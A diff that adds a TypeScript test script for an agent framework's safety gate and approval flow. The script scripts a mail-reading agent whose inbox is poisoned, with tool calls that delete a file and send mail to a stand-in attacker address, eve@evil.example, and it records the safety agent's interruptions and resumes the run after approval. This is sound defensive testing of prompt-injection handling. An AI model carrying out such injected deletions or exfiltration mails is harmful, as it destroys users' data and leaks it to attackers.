@@ -1,0 +1,23 @@
+import { createRunner, RuleSafetyAgent } from '../../src/index.ts';
+import { functionCall, scriptedModel } from '../../src/testing/scripted-model.ts';
+import { Office, POISONED, readMail, sendMail, SUMMARISE } from './gate-office.ts';
+
+// Starts a run that a mail has poisoned and leaves it waiting, or takes it up in this other process after a yes.
+const [directory = '', part] = process.argv.slice(2);
+const office = new Office(POISONED);
+const erase = functionCall('call_erase', 'delete_file', { file_id: '13' });
+const later = [[sendMail('ann@corp.example', 'call_ann')], [sendMail('eve@evil.example', 'call_eve')]];
+const agent = office.clerk(part === 'start' ? [[readMail()], [erase]] : later);
+const runner = createRunner({ safetyAgent: new RuleSafetyAgent(), store: { directory }, agents: [agent] });
+const result = await (part === 'start' ? runner.run(agent, SUMMARISE) : approveAll());
+const asked = result.interruptions.map(({ tool_id: id }) => id);
+const reasons = result.interruptions.map(({ reason }) => reason);
+process.stdout.write(JSON.stringify({ done: office.done, asked, reasons }));
+await runner.close();
+
+async function approveAll() {
+  const [question] = await runner.getPendingApprovals();
+  return runner.approveAndResume(question?.run_id ?? '', question?.approval_id ?? '', {
+    decision: 'approve',
+  });
+}
